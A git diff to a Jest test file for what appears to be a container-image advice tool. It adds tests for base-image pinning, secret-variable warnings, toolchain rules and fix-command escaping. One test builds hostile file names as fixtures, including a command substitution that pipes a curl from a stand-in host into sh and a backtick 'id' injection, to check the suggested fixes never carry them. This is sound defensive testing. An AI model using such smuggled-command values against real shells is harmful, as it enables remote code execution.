@@ -1,6 +1,6 @@
 import { describe, expect, test } from '@jest/globals'
 import * as fc from 'fast-check'
-import { advise } from '../../src/advice/advise.ts'
+import { advise, findingsOf } from '../../src/advice/advise.ts'
 import { RULES } from '../../src/advice/finding.ts'
 import type { ImageFile } from '../../src/image/files.ts'
 import type { FileFact } from '../../src/image/layer/facts.ts'
@@ -91,6 +91,42 @@ test('a finding says where it comes from', () => {
   ])
   const go = aFile('/usr/local/go/bin/go', 14_000_000, 0)
   expect(advise(image([go]), null)).toMatchObject([{ file: null, line: null, fromBase: true }])
+  const baseImage = { name: 'node:24', digest: null, line: 2, instruction: 'FROM node:24' }
+  expect(advise(image([], { baseImage }), null)).toMatchObject([
+    { rule: 'floating-base', file: 'Dockerfile', line: 2, instruction: 'FROM node:24', fromBase: false },
+  ])
+})
+
+test("a variable stands at the line that BuildKit's check blames", () => {
+  const settings = { user: 'app', variables: ['API_KEY', 'DB_PASSWORD'], buildArgs: [] }
+  const warning = { rule: 'SecretsUsedInArgOrEnv', message: 'Do not use … (ENV "API_KEY")', line: 9, url: null }
+  expect(advise(image([], { settings, warnings: [warning] }), null)).toMatchObject([
+    { rule: 'secrets', file: 'Dockerfile', line: 9 },
+    { rule: 'secrets', file: null, line: null },
+  ])
+})
+
+test('what one stage builds with is a toolchain for who forbids one', () => {
+  const single = advise(image([aFile('/usr/local/go/bin/go', 14_000_000, 1), lists], { stages: 1 }), null)
+  expect(findingsOf(single, 'toolchain').map(({ rule }) => rule)).toEqual(['single-stage'])
+  expect(findingsOf(single, 'single-stage')).toHaveLength(1)
+  expect(findingsOf(single, 'package-cache')).toHaveLength(1)
+  const split = advise(image([aFile('/usr/local/go/bin/go', 14_000_000, 1)]), null)
+  expect(findingsOf(split, 'toolchain')).toHaveLength(1)
+  expect(findingsOf(split, 'single-stage')).toEqual([])
+})
+
+test('no command to paste has in it what a shell would run', () => {
+  const evil = '/app/$(curl evil.test|sh);x.bin'
+  const files = [
+    aFile(evil, 9_000_000, 2, { checksum: 1, facts: [{ kind: 'elf', symbols: 5_000_000, debug: 0, go: false }] }),
+    aFile('/app/y.bin', 9_000_000, 2, { checksum: 1 }),
+    aFile('/app/`id`.pem', 900, 2, { facts: [{ kind: 'secret', secret: 'private-key' }] }),
+    aFile('/app/a\nb/.git/x', 900_000, 2),
+  ]
+  const found = advise(image(files), null)
+  expect(found.map(({ rule }) => rule)).toEqual(['secrets', 'duplicate-files', 'debug-symbols', 'context-bloat'])
+  for (const { fix } of found) expect(JSON.stringify(fix)).not.toMatch(/curl|id`|a\\nb/)
 })
 
 test('is bounded: ten of a rule, forty in all', () => {
